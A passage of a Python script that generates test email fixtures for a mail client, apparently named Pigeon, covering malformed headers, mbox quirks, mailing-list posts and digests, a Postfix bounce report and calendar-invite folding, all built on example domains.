.gitignore
.. two dots and a space
. one dot and a space
.\ttab after a dot
From the top: running the test suite
>From is already quoted here
make[1]: Entering directory '/srv/pigeon/_build'
Ok:                 41
Fail:                0
make[1]: Leaving directory '/srv/pigeon/_build'
.
""")


@fixture("046-no-final-newline.eml", "malformed,plain,charset-us-ascii",
         "The last body line has no line terminator at all (file ends mid-line); POP3 "
         "servers must add CRLF before the terminating '.'.")
def _():
    data = wire("""\
Return-Path: <ines.vasquez@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z8GkN3nP8z9sS0
\tfor <pigeon-test@mail.example.org>; Mon, 17 Mar 2025 08:03:12 +0100 (CET)
Date: Mon, 17 Mar 2025 08:03:09 +0100
From: Ines Vasquez <ines.vasquez@tallowmere.example.com>
To: pigeon-test@mail.example.org
Subject: Gate code changed
Message-ID: <20250317080309.7c1d2e3f@ines-laptop.tallowmere.example.com>
X-Mailer: Claws Mail 4.2.0 (GTK 3.24.41; x86_64-pc-linux-gnu)
MIME-Version: 1.0
Content-Type: text/plain; charset=US-ASCII
Content-Transfer-Encoding: 7bit

The yard gate code is now 4711#. Please don't write it on the gate.

See you at 10.
""")
    return data[:-2]


@fixture("047-missing-date.eml", "malformed,attachment",
         "Scan-to-mail from a multifunction printer: no Date header at all (Received "
         "headers still carry times), PDF attachment.")
def _():
    doc = pdf("Scan 2025-03-17 10:15", ["(scanned page 1 of 1)", "Delivery note DN-88412"])
    return wire("""\
Return-Path: <scanner@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from mfp-3f.tallowmere.example.com (mfp-3f.tallowmere.example.com [198.51.100.31])
\tby mx2.mail.example.org (Postfix) with ESMTP id 4Z8HlP4pQ9z9sS1
\tfor <pigeon-test@mail.example.org>; Mon, 17 Mar 2025 10:15:31 +0100 (CET)
From: MFP-3F <scanner@tallowmere.example.com>
To: pigeon-test@mail.example.org
Subject: Scanned from MFP-3F
Message-ID: <000001.20250317101522.MFP-3F@tallowmere.example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=====_MFP_SCAN_20250317101522_000001"
X-Mailer: Network Scanner

--=====_MFP_SCAN_20250317101522_000001
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Device name: MFP-3F
Device location: 3rd floor, print room
File format: PDF
Resolution: 300dpi x 300dpi
Attached file is scanned image in PDF format.

--=====_MFP_SCAN_20250317101522_000001
Content-Type: application/pdf; name="Scan_20250317_101522.pdf"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="Scan_20250317_101522.pdf"

""", b64(doc), """\

--=====_MFP_SCAN_20250317101522_000001--
""")


@fixture("048-unparseable-date.eml", "malformed,plain,charset-utf-8",
         "Date header localised by a broken client ('Do, 06 Mrz 2025 14:22:05 +0100'): "
         "German day and month names, not parseable per RFC 5322.")
def _():
    return wire("""\
Return-Path: <hannah.vogel@uni-kiel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.uni-kiel.example.org (mail.uni-kiel.example.org [192.0.2.160])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z8JmQ5qR0z9sWd
\tfor <pigeon-test@mail.example.org>; Thu,  6 Mar 2025 14:22:09 +0100 (CET)
Date: Do, 06 Mrz 2025 14:22:05 +0100
From: Hannah Vogel <hannah.vogel@uni-kiel.example.org>
To: pigeon-test@mail.example.org
Subject: Termin Donnerstag
Message-ID: <a1b2c3d4e5f6.20250306142205@uni-kiel.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit
X-Mailer: Kiel Campus Mailer 0.9

Hallo,

passt Donnerstag um 15 Uhr? Ich bringe die Unterlagen mit.

Grüße
Hannah
""")


@fixture("049-missing-from.eml", "malformed,plain,charset-us-ascii",
         "No From header (only the envelope Return-Path), LF line endings; generated by "
         "a backup script piping straight into sendmail.")
def _():
    return wire("""\
Return-Path: <backup@nas.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from nas.example.net (nas.example.net [198.51.100.250])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8KnR6rS1z9sWe
\tfor <pigeon-test@mail.example.org>; Tue, 18 Mar 2025 03:30:41 +0100 (CET)
To: pigeon-test@mail.example.org
Subject: [nas] nightly backup OK (412 files, 1.8 GiB)
Date: Tue, 18 Mar 2025 02:30:39 +0000
Message-ID: <backup-20250318023039@nas.example.net>

rsnapshot daily: completed in 00:14:52
  created:  412 files
  deleted:   37 files
  size:     1.8 GiB
""", eol=LF)


@fixture("050-separator-whitespace-line.eml", "malformed,plain,charset-us-ascii",
         "The 'blank' line between header and body contains spaces and a tab, so it is "
         "technically a header continuation line; the body follows it.")
def _():
    return wire("""\
Return-Path: <ines.vasquez@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z8LpS7sT2z9sS2
\tfor <pigeon-test@mail.example.org>; Tue, 18 Mar 2025 09:12:02 +0100 (CET)
Date: Tue, 18 Mar 2025 09:11:58 +0100
From: Ines Vasquez <ines.vasquez@tallowmere.example.com>
To: pigeon-test@mail.example.org
Subject: Forklift training
Message-ID: <20250318091158.2b3c4d5e@ines-laptop.tallowmere.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
\x20\x20\x20\t
Hello team,
forklift refresher training is on Thursday at 14:00 in the yard office.
Ines
""")


@fixture("051-no-header-body-separator.eml", "malformed,plain,charset-us-ascii",
         "No blank line at all between header and body: body text starts on the line "
         "right after the last header.")
def _():
    return wire("""\
Return-Path: <ines.vasquez@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z8MqT8tU3z9sS3
\tfor <pigeon-test@mail.example.org>; Tue, 18 Mar 2025 09:20:44 +0100 (CET)
Date: Tue, 18 Mar 2025 09:20:40 +0100
From: Ines Vasquez <ines.vasquez@tallowmere.example.com>
To: pigeon-test@mail.example.org
Subject: Quick question
Message-ID: <20250318092040.3c4d5e6f@ines-laptop.tallowmere.example.com>
Content-Type: text/plain; charset=us-ascii
Is the training still on? I have not seen the room booking.
Thanks
""")


@fixture("052-headers-only-no-body.eml", "malformed,plain",
         "Header section only: no blank separator line and no body (valid per RFC 5322, "
         "which makes the body optional).")
def _():
    return wire("""\
Return-Path: <alerts@monitor.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from monitor.example.com (monitor.example.com [192.0.2.90])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8NrV9uW4z9sWf
\tfor <pigeon-test@mail.example.org>; Tue, 18 Mar 2025 11:00:03 +0100 (CET)
Date: Tue, 18 Mar 2025 10:00:01 +0000
From: Cold Store Monitor <alerts@monitor.example.com>
To: pigeon-test@mail.example.org
Subject: [monitor] heartbeat
Message-ID: <heartbeat-20250318T1000Z@monitor.example.com>
""")


@fixture("053-empty-body.eml", "plain,charset-utf-8",
         "Complete header section and blank separator line, but an empty body "
         "(subject-only note).")
def _():
    return wire("""\
Return-Path: <tobias.brandt@brightwater.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.brightwater.example.net (mail.brightwater.example.net [203.0.113.41])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z8PsW0vX5z9sWg
\tfor <pigeon-test@mail.example.org>; Tue, 18 Mar 2025 12:31:15 +0100 (CET)
Message-ID: <4e5f6a7b-8c9d-4e0f-a1b2-c3d4e5f6a7b8@brightwater.example.net>
Date: Tue, 18 Mar 2025 12:31:09 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: pigeon-test@mail.example.org
From: Tobias Brandt <tobias.brandt@brightwater.example.net>
Subject: Lunch at 12:45? (EOM)
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

""")


@fixture("054-no-headers-body-only.eml", "malformed,plain",
         "Empty header section: the file starts with the blank separator line, so "
         "everything is body (no From, Date, Subject, Message-ID).")
def _():
    return wire("""\

This file has no header section at all. It begins with an empty line, so
every following line is body text, including the next one:

Subject: this is body text, not a header

A client should still list it (e.g. "(no subject)", "(unknown sender)")
and must not crash.
""")


@fixture("055-mbox-from-line-prefix.eml", "malformed,plain,charset-us-ascii",
         "Saved from an mbox, LF only: starts with an mbox 'From ' envelope line, body "
         "has '>From ' and an unquoted 'From ' line; 'UT' time zone.")
def _():
    return wire("""\
From chen.wei@kestrel.example.net  Wed Mar 19 12:00:00 2025
Return-Path: <chen.wei@kestrel.example.net>
Received: from smtp.kestrel.example.net (smtp.kestrel.example.net [198.51.100.88])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z8QtX1wY6z9sWh
\tfor <pigeon-test@mail.example.org>; Wed, 19 Mar 2025 13:00:04 +0100 (CET)
Date: Wed, 19 Mar 2025 12:00:00 UT
From: Chen Wei <chen.wei@kestrel.example.net>
To: pigeon-test@mail.example.org
Subject: Old mbox import test
Message-ID: <mbox-import-1@kestrel.example.net>
Status: RO
X-Status: A
Content-Length: 292
Lines: 6

This message was exported from an old mbox file.
>From here on, lines starting with "From " were quoted by the MDA.
From the archive's point of view this line was never quoted.

The Status, X-Status, Content-Length and Lines headers above are mbox
bookkeeping, not part of the original mail.
""", eol=LF)


@fixture("056-header-folded-tabs.eml", "plain,charset-us-ascii",
         "Lotus Notes style headers folded with TABs everywhere: Subject, To, Cc, "
         "Received and even Date folded over two lines.")
def _():
    return wire("""\
Return-Path: <r.mbeki@harbourline.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from notes-gw.harbourline.example.com
\t(notes-gw.harbourline.example.com
\t[203.0.113.60])
\tby mx1.mail.example.org (Postfix)
\twith ESMTP id 4Z8RvY2xZ7z9sWi
\tfor <pigeon-test@mail.example.org>;
\tFri, 14 Mar 2025 17:20:06 +0100 (CET)
Subject: Harbourline shipping calendar for April:
\tchanged cut-off times for the
\tSaturday ferry
To: "Tallowmere Dispatch"
\t<dispatch@tallowmere.example.com>,
\t"Pigeon Test"
\t<pigeon-test@mail.example.org>
Cc:\t"Harbourline Ops"
\t<ops@harbourline.example.com>
From: "Rudo Mbeki" <r.mbeki@harbourline.example.com>
Date: Fri, 14 Mar 2025
\t16:20:00 +0000
Message-ID: <OF3A5B7C9D.1E2F3A4B-ON80258C4E.005A1B2C-80258C4E.005A3D4E@harbourline.example.com>
X-Mailer: Lotus Notes Release 9.0.1FP10 HF383 April 24, 2018
X-MIMETrack: Serialize by Router on NotesGW/Harbourline(Release 9.0.1FP10|April 24, 2018) at
\t14/03/2025 16:20:03,
\tSerialize complete at 14/03/2025 16:20:03
MIME-Version: 1.0
Content-type: text/plain; charset=US-ASCII

Dear partners,

from 1 April the cut-off for the Saturday ferry moves from 11:00 to 10:00.
All other cut-off times stay the same.

Regards
Rudo Mbeki
Harbourline Operations
""")


@fixture("057-references-100-ids.eml", "list,thread,malformed,plain,charset-us-ascii",
         "Reply deep in a long mailing-list thread (mutt, LF only) whose References "
         "header lists 100 Message-IDs on ONE physical line of ~5,000 characters.")
def _():
    ids = []
    for i in range(100):
        h = hashlib.sha1(b"ref%d" % i).hexdigest()
        style = i % 4
        if style == 0:
            ids.append("<2025%02d%02d%02d%02d%02d.GA%d@host%d.example.net>"
                       % (1 + i // 40, 1 + i % 28, i % 24, (i * 7) % 60, (i * 13) % 60, 1000 + i, i % 9))
        elif style == 1:
            ids.append("<%s-%s-%s-%s-%s@kestrel.example.net>" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:32]))
        elif style == 2:
            ids.append("<CA%s+%s@mail.example.com>" % (h[:28], h[28:36].upper()))
        else:
            ids.append("<%s.fsf@lists.example.org>" % h[:16])
    refs = " ".join(ids)
    assert len(refs) > 4000
    return wire("""\
Return-Path: <pigeon-devs-bounces@lists.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from lists.example.org (lists.example.org [192.0.2.30])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8SwZ3yA8z9sWj
\tfor <pigeon-test@mail.example.org>; Wed, 19 Mar 2025 22:41:09 +0100 (CET)
Date: Wed, 19 Mar 2025 21:41:02 +0000
From: Jens Koehler <jkoehler@kestrel.example.org>
To: pigeon-devs@lists.example.org
Subject: Re: [pigeon-devs] Re: Re: Re: threading algorithm (was: JWZ vs. simple parent links)
Message-ID: <20250319214102.GC30411@shell.kestrel.example.org>
References: @@REFS@@
In-Reply-To: @@LAST@@
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Disposition: inline
User-Agent: NeoMutt/20231103
List-Id: Pigeon development <pigeon-devs.lists.example.org>
List-Post: <mailto:pigeon-devs@lists.example.org>
List-Archive: <https://lists.example.org/archives/list/pigeon-devs@lists.example.org/>
Precedence: list

On Wed, Mar 19, 2025 at 09:12:44PM +0000, Chen Wei wrote:
> After 100 messages I think we agree on JWZ with a cap on References.

Agreed. Truncate to the first id plus the last 20 when storing, and
never trust In-Reply-To alone.

Jens
""".replace("@@REFS@@", refs).replace("@@LAST@@", ids[-1]), eol=LF)


@fixture("058-duplicate-subject.eml", "malformed,plain,charset-utf-8",
         "Two Subject headers with different values (and two To headers) from a web "
         "form mailer; Date with the wrong weekday (16 Mar 2025 was a Sunday).")
def _():
    return wire("""\
Return-Path: <www@kelsomill.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from kelsomill.example.com (kelsomill.example.com [203.0.113.80])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8TxA4zB9z9sWk
\tfor <pigeon-test@mail.example.org>; Sun, 16 Mar 2025 11:00:04 +0100 (CET)
Subject: Contact form
Date: Mon, 16 Mar 2025 10:00:00 GMT
From: Kelso Mill Website <www@kelsomill.example.com>
To: bookings@kelsomill.example.com
To: pigeon-test@mail.example.org
Subject: Booking enquiry: 9-11 September, 40 people
Message-ID: <form-88231@kelsomill.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit
X-Mailer: FormMailer 2.1

Name: Tobias Brandt
E-Mail: tobias.brandt@brightwater.example.net
Nachricht: Gibt es im September noch freie Termine für 40 Personen?
""")


@fixture("059-mailing-list-mailman.eml", "list,plain,charset-utf-8",
         "Mailman 3 list post: [pigeon-devs] prefix, full List-* header set, "
         "Archived-At, X-Mailman-*, ARC-Seal/ARC-Message-Signature, DMARC-munged "
         "From ('via pigeon-devs'), list footer appended to the body.")
def _():
    return wire("""\
Return-Path: <pigeon-devs-bounces+pigeon-test=mail.example.org@lists.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from lists.example.org (lists.example.org [192.0.2.30])
\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)
\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)
\t(No client certificate requested)
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z8VyB5aC0z9sWm
\tfor <pigeon-test@mail.example.org>; Mon, 17 Mar 2025 14:03:22 +0100 (CET)
Received: from lists.example.org (localhost [127.0.0.1])
\tby lists.example.org (Postfix) with ESMTP id 1A2B3C4D5E
\tfor <pigeon-test@mail.example.org>; Mon, 17 Mar 2025 13:03:20 +0000 (UTC)
Received: from smtp.kestrel.example.net (smtp.kestrel.example.net [198.51.100.88])
\tby lists.example.org (Postfix) with ESMTPS id 6F7A8B9C0D
\tfor <pigeon-devs@lists.example.org>; Mon, 17 Mar 2025 13:03:17 +0000 (UTC)
Authentication-Results: mx1.mail.example.org;
\tdkim=pass header.d=lists.example.org header.s=mm3 header.b=Q2x9aK1v;
\tarc=pass ("lists.example.org:s=arc-2025:i=1");
\tdmarc=pass (policy=none) header.from=lists.example.org;
\tspf=pass (mx1.mail.example.org: domain of pigeon-devs-bounces@lists.example.org designates 192.0.2.30 as permitted sender) smtp.mailfrom=pigeon-devs-bounces@lists.example.org
ARC-Seal: i=1; a=rsa-sha256; t=1742216600; cv=none; d=lists.example.org;
\ts=arc-2025; b=Vv7Qm3Kx1Lp9Tz2Nw8Rb4Yc6Jd0Hf5Gs3Ea1Uo7Ik9Pl2Mn4Bq6Cr8Ds0Ft2Gv
\t4Hw6Jx8Ky0Lz2Ma4Nb6Oc8Pd0Qe2Rf4Sg6Th8Ui0Vj2Wk4Xl6Ym8Zn0Ao2Bp4Cq6Dr8Es=
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=lists.example.org;
\ts=arc-2025; t=1742216600; h=from:reply-to:subject:date:message-id:to:cc:
\tlist-id:list-help:list-unsubscribe:list-subscribe:list-post:list-owner:
\tlist-archive; bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
\tb=k2Mx7Nq1Lr9Tw3Vb5Xc7Zd9Af1Bg3Ch5Di7Ej9Fk1Gl3Hm5In7Jo9Kp1Lq3Mr5Ns7Ot9Pu1Q
\tv3Rw5Sx7Ty9Uz1Va3Wb5Xc7Yd9Ze1Af3Bg5Ch7Di9Ej1Fk3Gl5Hm7In9Jo1Kp3Lq5Mr7Ns9Ot1
ARC-Authentication-Results: i=1; lists.example.org;
\tdkim=pass header.d=kestrel.example.net header.s=k1;
\tdmarc=pass (policy=quarantine) header.from=kestrel.example.net;
\tspf=pass (lists.example.org: domain of chen.wei@kestrel.example.net designates 198.51.100.88 as permitted sender) smtp.mailfrom=chen.wei@kestrel.example.net
""", dkim("lists.example.org", "mm3", "059",
          "from:reply-to:subject:date:message-id:to:cc:list-id:list-post", t=1742216600), """\
Message-ID: <9f8e7d6c-5b4a-4392-8170-6e5d4c3b2a19@kestrel.example.net>
Date: Mon, 17 Mar 2025 21:03:11 +0800
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: pigeon-devs@lists.example.org
From: Chen Wei via pigeon-devs <pigeon-devs@lists.example.org>
Content-Type: text/plain; charset="utf-8"; format="flowed"
Content-Transfer-Encoding: 8bit
Message-ID-Hash: Q7Y2K4M6N8P0R2T4V6X8Z0B2D4F6H8J0
X-Message-ID-Hash: Q7Y2K4M6N8P0R2T4V6X8Z0B2D4F6H8J0
X-MailFrom: chen.wei@kestrel.example.net
X-Mailman-Rule-Misses: dmarc-mitigation; no-senders; approved; emergency; loop;
 banned-address; member-moderation; nonmember-moderation; administrivia;
 implicit-dest; max-recipients; max-size; news-moderation; no-subject;
 digests; suspicious-header
X-Mailman-Version: 3.3.9
Precedence: list
Subject: [pigeon-devs] RFC: keep message bodies outside SQLite?
List-Id: Pigeon development <pigeon-devs.lists.example.org>
Archived-At: <https://lists.example.org/archives/list/pigeon-devs@lists.example.org/message/Q7Y2K4M6N8P0R2T4V6X8Z0B2D4F6H8J0/>
List-Archive: <https://lists.example.org/archives/list/pigeon-devs@lists.example.org/>
List-Help: <mailto:pigeon-devs-request@lists.example.org?subject=help>
List-Owner: <mailto:pigeon-devs-owner@lists.example.org>
List-Post: <mailto:pigeon-devs@lists.example.org>
List-Subscribe: <mailto:pigeon-devs-join@lists.example.org>
List-Unsubscribe: <mailto:pigeon-devs-leave@lists.example.org>
Reply-To: Chen Wei <chen.wei@kestrel.example.net>

Hi all,

while profiling the 5 MB fixture I noticed we copy every message body into
SQLite and then again into the FTS index. Proposal:

  * raw .eml files in a content-addressed directory (sha256 → path)
  * SQLite keeps headers, flags and the FTS5 index only
  * bodies are re-parsed with GMime on demand

That would also make "view source" trivial. Opinions? I'd like to decide
before the 0.9 schema freeze.

Wei
_______________________________________________
pigeon-devs mailing list -- pigeon-devs@lists.example.org
To unsubscribe send an email to pigeon-devs-leave@lists.example.org
""")


DIGEST_MSG1 = """\
Date: Tue, 18 Mar 2025 08:12:40 +0100
From: Hannah Vogel <hannah.vogel@uni-kiel.example.org>
To: pigeon-users@lists.example.org
Subject: [pigeon-users] Search does not find words with umlauts
Message-ID: <0c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f@uni-kiel.example.org>
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

""" + qp("""\
Hi,

searching for "Grüße" finds nothing, although I have dozens of mails
containing it. Searching for "Gr" finds them. Is that a known problem?

Hannah
""")

DIGEST_MSG2 = """\
Date: Tue, 18 Mar 2025 16:40:03 +0800
From: Chen Wei <chen.wei@kestrel.example.net>
To: pigeon-users@lists.example.org
Subject: Re: [pigeon-users] Search does not find words with umlauts
Message-ID: <5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9@kestrel.example.net>
In-Reply-To: <0c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f@uni-kiel.example.org>
References: <0c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f@uni-kiel.example.org>
Content-Type: text/plain; charset="us-ascii"; format="flowed"
Content-Transfer-Encoding: 7bit

Yes, the FTS tokenizer was configured without remove_diacritics. Fixed
in git; it will be in 0.9. You need to rebuild the index once.

Wei
"""


@fixture("060-mailing-list-digest.eml", "list,nested,plain,charset-utf-8",
         "Mailman 2.1 MIME digest: mixed > [TOC, multipart/digest > [message/rfc822 "
         "parts, one relying on the digest's implicit message/rfc822 default], footer].")
def _():
    O = "===============7154380119867012345=="
    D = "===============2837465019283746501=="
    return wire("""\
Return-Path: <pigeon-users-bounces@lists.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from lists.example.org (lists.example.org [192.0.2.30])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z8WzC6bD1z9sWn
\tfor <pigeon-test@mail.example.org>; Wed, 19 Mar 2025 12:00:07 +0100 (CET)
From: pigeon-users-request@lists.example.org
Subject: pigeon-users Digest, Vol 12, Issue 3
To: pigeon-users@lists.example.org
Reply-To: pigeon-users@lists.example.org
Date: Wed, 19 Mar 2025 11:00:02 +0000
Message-ID: <mailman.2291.1742382002.8123.pigeon-users@lists.example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="@@O@@"
X-BeenThere: pigeon-users@lists.example.org
X-Mailman-Version: 2.1.39
Precedence: list
List-Id: Pigeon users <pigeon-users.lists.example.org>
List-Unsubscribe: <https://lists.example.org/mailman/options/pigeon-users>,
 <mailto:pigeon-users-request@lists.example.org?subject=unsubscribe>
List-Archive: <https://lists.example.org/pipermail/pigeon-users/>
List-Post: <mailto:pigeon-users@lists.example.org>
List-Help: <mailto:pigeon-users-request@lists.example.org?subject=help>
List-Subscribe: <https://lists.example.org/mailman/listinfo/pigeon-users>,
 <mailto:pigeon-users-request@lists.example.org?subject=subscribe>
Errors-To: pigeon-users-bounces@lists.example.org
Sender: "pigeon-users" <pigeon-users-bounces@lists.example.org>

--@@O@@
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0
Content-Transfer-Encoding: 7bit
Content-Description: pigeon-users Digest, Vol 12, Issue 3

Send pigeon-users mailing list submissions to
\tpigeon-users@lists.example.org

To subscribe or unsubscribe via the World Wide Web, visit
\thttps://lists.example.org/mailman/listinfo/pigeon-users
or, via email, send a message with subject or body 'help' to
\tpigeon-users-request@lists.example.org

Today's Topics:

   1. Search does not find words with umlauts (Hannah Vogel)
   2. Re: Search does not find words with umlauts (Chen Wei)


--@@O@@
Content-Type: multipart/digest; boundary="@@D@@"
MIME-Version: 1.0

--@@D@@
Content-Type: message/rfc822
MIME-Version: 1.0

""".replace("@@O@@", O).replace("@@D@@", D), DIGEST_MSG1, """\

--@@D@@

""".replace("@@D@@", D), DIGEST_MSG2, """\

--@@D@@--

--@@O@@
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0
Content-Transfer-Encoding: 7bit
Content-Disposition: inline

_______________________________________________
pigeon-users mailing list
pigeon-users@lists.example.org
https://lists.example.org/mailman/listinfo/pigeon-users

--@@O@@--
""".replace("@@O@@", O).replace("@@D@@", D))


@fixture("061-bounce-dsn.eml", "report,nested,plain,charset-utf-8",
         "Postfix bounce: multipart/report; report-type=delivery-status with notification "
         "text, message/delivery-status (two failed recipients) and the returned "
         "message/rfc822; empty Return-Path <>, Auto-Submitted.")
def _():
    Bd = "4Z8XaD7cE2z9sWo.1742205600/mx1.mail.example.org"
    return wire("""\
Return-Path: <>
Delivered-To: pigeon-test@mail.example.org
Received: by mx1.mail.example.org (Postfix)
\tid 4Z8XaD7cE2z9sWo; Mon, 17 Mar 2025 11:00:00 +0100 (CET)
Date: Mon, 17 Mar 2025 11:00:00 +0100 (CET)
From: MAILER-DAEMON@mx1.mail.example.org (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: pigeon-test@mail.example.org
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="@@B@@"
Content-Transfer-Encoding: 8bit
Message-Id: <20250317100000.4Z8XaD7cE2z9sWo@mx1.mail.example.org>

This is a MIME-encapsulated message.

--@@B@@
Content-Description: Notification
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This is the mail system at host mx1.mail.example.org.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<nobody@kelsomill.example.com>: host mx.kelsomill.example.com[203.0.113.80]
    said: 550 5.1.1 <nobody@kelsomill.example.com>: Recipient address
    rejected: User unknown in virtual mailbox table (in reply to RCPT TO
    command)

<full@kelsomill.example.com>: host mx.kelsomill.example.com[203.0.113.80]
    said: 552 5.2.2 <full@kelsomill.example.com>: Mailbox full (in reply to
    RCPT TO command)

--@@B@@
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.mail.example.org
X-Postfix-Queue-ID: 4Z8XaD7cE2z9sWo
X-Postfix-Sender: rfc822; pigeon-test@mail.example.org
Arrival-Date: Mon, 17 Mar 2025 10:59:58 +0100 (CET)

Final-Recipient: rfc822; nobody@kelsomill.example.com
Original-Recipient: rfc822;nobody@kelsomill.example.com
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.kelsomill.example.com
Diagnostic-Code: smtp; 550 5.1.1 <nobody@kelsomill.example.com>: Recipient
    address rejected: User unknown in virtual mailbox table

Final-Recipient: rfc822; full@kelsomill.example.com
Original-Recipient: rfc822;full@kelsomill.example.com
Action: failed
Status: 5.2.2
Remote-MTA: dns; mx.kelsomill.example.com
Diagnostic-Code: smtp; 552 5.2.2 <full@kelsomill.example.com>: Mailbox full

--@@B@@
Content-Description: Undelivered Message
Content-Type: message/rfc822
Content-Transfer-Encoding: 8bit

Return-Path: <pigeon-test@mail.example.org>
Received: from [192.0.2.99] (unknown [192.0.2.99])
\t(Authenticated sender: pigeon-test@mail.example.org)
\tby mx1.mail.example.org (Postfix) with ESMTPSA id 4Z8XaD7cE2z9sWo;
\tMon, 17 Mar 2025 10:59:58 +0100 (CET)
Message-ID: <pigeon.1742205598.1@mail.example.org>
Date: Mon, 17 Mar 2025 10:59:58 +0100
From: Pigeon Test <pigeon-test@mail.example.org>
To: nobody@kelsomill.example.com, full@kelsomill.example.com
Subject: Room list for September
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit
User-Agent: Pigeon/0.1.0

Hello, the room list follows next week. – Pigeon Test

--@@B@@--
""".replace("@@B@@", Bd))


def ics_fold(text):
    """Fold iCalendar content lines at 75 octets (RFC 5545 3.1)."""
    out = []
    for line in text.split("\n"):
        raw = line.encode("utf-8")
        first = True
        while len(raw) > (75 if first else 74):
            n = 75 if first else 74
            while (raw[n] & 0xC0) == 0x80:   # do not split UTF-8 sequences
                n -= 1
            out.append((b"" if first else b" ") + raw[:n])
            raw = raw[n:]
            first = False
        out.append((b"" if first else b" ") + raw)
    return b"\n".join(out)


ICS = """\
BEGIN:VCALENDAR
PRODID:-//Example Inc//Example Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VTIMEZONE
TZID:Europe/Berlin
X-LIC-LOCATION:Europe/Berlin
BEGIN:DAYLIGHT
TZOFFSETFROM:+0100
TZOFFSETTO:+0200
TZNAME:CEST
DTSTART:19700329T020000
RRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU
END:DAYLIGHT
BEGIN:STANDARD
TZOFFSETFROM:+0200
TZOFFSETTO:+0100
TZNAME:CET
DTSTART:19701025T030000
RRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU
END:STANDARD
END:VTIMEZONE
BEGIN:VEVENT
DTSTART;TZID=Europe/Berlin:20250320T140000
DTEND;TZID=Europe/Berlin:20250320T150000
RRULE:FREQ=WEEKLY;COUNT=4;BYDAY=TH
DTSTAMP:20250317T091500Z
ORGANIZER;CN=Siobhán Ní Bhriain:mailto:siobhan.nibhriain@kestrel.example.org
UID:3k9v2m1q7t0p5r8s6u4w2y0a1c@calendar.example.com
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE;CN=Siobhán Ní Bhriain;X-NUM-GUESTS=0:mailto:siobhan.nibhriain@kestrel.example.org
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=pigeon-test@mail.example.org;X-NUM-GUESTS=0:mailto:pigeon-test@mail.example.org
